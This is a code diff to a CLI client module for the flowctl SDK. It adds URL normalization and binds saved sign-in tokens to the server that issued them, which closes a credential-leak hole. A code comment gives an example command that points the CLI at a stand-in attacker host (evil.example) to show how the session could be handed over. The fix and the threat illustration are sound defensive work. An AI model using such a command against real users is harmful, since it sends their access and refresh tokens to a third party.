@@ -1,13 +1,57 @@
 // The SDK client for this invocation. FLOWCTL_TOKEN and FLOWCTL_API_URL beat the saved profile
 // (an explicit --api-url beats them all); refreshed tokens are written back to the profile.
+//
+// A saved sign-in belongs to the server that issued it (the profile's `apiUrl`): pointed at any other
+// server, the CLI sends it nothing, neither the access token nor the refresh token, and says to sign in
+// there. Otherwise `--api-url https://evil.example whoami` would hand the session to whoever answers.
 import type { Flowctl } from '@flowctl/sdk';
 
 import type { Ctx } from './context.js';
-import { DEFAULT_API_URL, readProfile, updateProfile } from './credentials.js';
-import { notSignedIn } from './errors.js';
+import { DEFAULT_API_URL, type Profile, readProfile, updateProfile } from './credentials.js';
+import { CliError, EXIT, notSignedIn, usageError } from './errors.js';
 
-export const apiUrlOf = (ctx: Ctx): string =>
-    (ctx.apiUrlFlag ?? ctx.io.env.FLOWCTL_API_URL ?? readProfile(ctx.profile, ctx.io.env).apiUrl ?? DEFAULT_API_URL).replace(/\/+$/, '');
+const URL_SHAPE = 'a server URL looks like http(s)://host[:port], e.g. http://127.0.0.1:3000';
+
+/**
+ * `text` as a server URL in one spelling (lower-case scheme and host, no default port, no trailing
+ * slash), or null when it is not an http(s) URL. Two spellings of one server compare equal.
+ */
+export const normalizeApiUrl = (text: string): string | null => {
+    let url: URL;
+    try {
+        url = new URL(text.trim());
+    } catch {
+        return null;
+    }
+
+    if ((url.protocol !== 'http:' && url.protocol !== 'https:') || !url.hostname || url.username || url.password || url.search || url.hash) {
+        return null;
+    }
+
+    return `${url.origin}${url.pathname.replace(/\/+$/, '')}`;
+};
+
+/** The server of this invocation, normalized; a value that is no URL is a usage error naming where it came from. */
+export const apiUrlOf = (ctx: Ctx): string => {
+    const [text, from] =
+        ctx.apiUrlFlag !== undefined
+            ? [ctx.apiUrlFlag, '--api-url']
+            : ctx.io.env.FLOWCTL_API_URL
+              ? [ctx.io.env.FLOWCTL_API_URL, 'FLOWCTL_API_URL']
+              : [readProfile(ctx.profile, ctx.io.env).apiUrl ?? DEFAULT_API_URL, `the apiUrl of profile '${ctx.profile}'`];
+    const url = normalizeApiUrl(text);
+    if (!url) {
+        throw usageError(`${from} is not a server URL: '${text}'`, URL_SHAPE);
+    }
+
+    return url;
+};
+
+const hasTokens = (profile: Profile): boolean => Boolean(profile.accessToken || profile.refreshToken);
+
+/** Whether the profile's saved tokens were issued by `apiUrl` (the only server they may go to). */
+export const tokensBelongTo = (profile: Profile, apiUrl: string): boolean =>
+    hasTokens(profile) && normalizeApiUrl(profile.apiUrl ?? DEFAULT_API_URL) === apiUrl;
 
 /** Where the credentials of this invocation come from, for `whoami` and error messages. */
 export const credentialSource = (ctx: Ctx): 'FLOWCTL_TOKEN' | 'profile' | null => {
@@ -15,18 +59,18 @@ export const credentialSource = (ctx: Ctx): 'FLOWCTL_TOKEN' | 'profile' | null =
         return 'FLOWCTL_TOKEN';
     }
 
-    const profile = readProfile(ctx.profile, ctx.io.env);
-    return profile.accessToken || profile.refreshToken ? 'profile' : null;
+    return tokensBelongTo(readProfile(ctx.profile, ctx.io.env), apiUrlOf(ctx)) ? 'profile' : null;
+};
+
+export const saveTokens = (ctx: Ctx, apiUrl: string, pair: { accessToken: string; refreshToken: string }): void => {
+    updateProfile(ctx.profile, { apiUrl, accessToken: pair.accessToken, refreshToken: pair.refreshToken }, ctx.io.env);
 };
 
 /** A client without credentials, for register / verify / login. */
 export const anonymousClient = async (ctx: Ctx): Promise<Flowctl> => {
     const { Flowctl } = await import('@flowctl/sdk');
-    return new Flowctl({ baseUrl: apiUrlOf(ctx), onTokens: (pair) => saveTokens(ctx, pair) });
-};
-
-export const saveTokens = (ctx: Ctx, pair: { accessToken: string; refreshToken: string }): void => {
-    updateProfile(ctx.profile, { accessToken: pair.accessToken, refreshToken: pair.refreshToken }, ctx.io.env);
+    const baseUrl = apiUrlOf(ctx);
+    return new Flowctl({ baseUrl, onTokens: (pair) => saveTokens(ctx, baseUrl, pair) });
 };
 
 /** A signed-in client, or exit 3 with the command to sign in. */
@@ -34,8 +78,17 @@ export const client = async (ctx: Ctx): Promise<Flowctl> => {
     const baseUrl = apiUrlOf(ctx);
     const apiToken = ctx.io.env.FLOWCTL_TOKEN;
     const profile = readProfile(ctx.profile, ctx.io.env);
-    if (!apiToken && !profile.accessToken && !profile.refreshToken) {
-        throw notSignedIn(ctx.profile === 'default' ? 'not signed in' : `not signed in (profile '${ctx.profile}')`);
+    const named = ctx.profile === 'default' ? '' : ` (profile '${ctx.profile}')`;
+    if (!apiToken && !hasTokens(profile)) {
+        throw notSignedIn(`not signed in${named}`);
+    }
+
+    if (!apiToken && !tokensBelongTo(profile, baseUrl)) {
+        throw new CliError(
+            `not signed in to ${baseUrl}${named}: the saved sign-in is for ${profile.apiUrl ?? DEFAULT_API_URL}, and is only ever sent there`,
+            EXIT.auth,
+            `sign in there: flowctl login --api-url ${baseUrl}${named ? ` --profile ${ctx.profile}` : ''} (add --profile <name> to keep both sign-ins; in CI, set FLOWCTL_TOKEN to an API token of that server)`
+        );
     }
 
     const { Flowctl } = await import('@flowctl/sdk');
@@ -47,6 +100,6 @@ export const client = async (ctx: Ctx): Promise<Flowctl> => {
         baseUrl,
         accessToken: profile.accessToken,
         refreshToken: profile.refreshToken,
-        onTokens: (pair) => saveTokens(ctx, pair)
+        onTokens: (pair) => saveTokens(ctx, baseUrl, pair)
     });
 };
